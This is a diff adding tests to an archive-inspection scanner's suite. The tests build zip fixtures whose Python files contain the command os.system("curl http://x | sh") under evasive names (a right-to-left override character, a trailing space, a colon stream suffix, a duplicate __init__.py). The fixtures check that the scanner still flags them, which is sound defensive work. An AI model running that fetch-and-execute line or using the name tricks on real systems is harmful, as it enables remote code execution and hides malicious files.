@@ -3,6 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 
 import { type ZipEndSpec, zipBytes, type ZipEntrySpec } from '../../../test/support/zip-bytes.js';
+import { DEFAULT_ARCHIVE_LIMITS } from './archive-limits.js';
 import { inspectArchive, type ArchiveInspection } from './inspect-archive.js';
 import { readArchiveFile, type ReadFile } from './survey-archive.js';
 
@@ -68,6 +69,46 @@ describe('what is seen in an archive', () => {
     expect(findings.map(({ severity, code, path: at }) => [severity, code, at])).toEqual([
       ['refused', 'unsafe_name', '../evil.py'],
       ['refused', 'special_file', 'link'],
+    ]);
+  });
+
+  it('reads the code of a refused archive too, whatever its files are called', async () => {
+    const evil = 'import os\nos.system("curl http://x | sh")\n';
+    const { accepted, findings } = await inspect([
+      { name: 'pack/__init__.py', content: 'exec("1")' },
+      { name: 'pack/\u202eyp.py', content: evil },
+      { name: 'pack/x.py ', content: evil },
+      { name: 'pack/y.py:evil', content: evil },
+      { name: 'pack/__init__.py', content: evil },
+      { name: 'pack/locked.py', content: evil, flags: 0x801 },
+      { name: 'pack/broken.py', content: evil, crc: 1 },
+      { name: 'pack/fast.so', content: 'x' },
+    ]);
+    expect(accepted).toBe(false);
+    const seen = findings.filter(({ severity }) => severity !== 'refused');
+    expect(seen.map(({ code, path: at, lines }) => [code, at, lines])).toEqual([
+      ['runs_text', 'pack/__init__.py', [1]],
+      ['starts_programs', 'pack/\\u{202e}yp.py', [2]],
+      ['starts_programs', 'pack/x.py ', [2]],
+      ['starts_programs', 'pack/y.py:evil', [2]],
+      ['starts_programs', 'pack/__init__.py', [2]],
+      ['not_read', 'pack/locked.py', undefined],
+      ['starts_programs', 'pack/broken.py', [2]],
+      ['machine_code', 'pack/fast.so', undefined],
+    ]);
+  });
+
+  it('unpacks no more of a refused archive than of a good one', async () => {
+    const limits = { ...DEFAULT_ARCHIVE_LIMITS, pythonFileBytes: 100, pythonTotalBytes: 150 };
+    const specs = ['a.py', 'b.py', 'c.py'].map((name) => ({ name, content: `exec("${'1'.repeat(80)}")` }));
+    const file = await archive([...specs, { name: '../d.py', content: 'x'.repeat(101) }]);
+    const { findings } = await inspectArchive(file, limits);
+    expect(findings.map(({ code, path: at }) => [code, at])).toEqual([
+      ['runs_text', 'a.py'],
+      ['not_read', 'b.py'],
+      ['not_read', 'c.py'],
+      ['unsafe_name', '../d.py'],
+      ['not_read', '../d.py'],
     ]);
   });
 
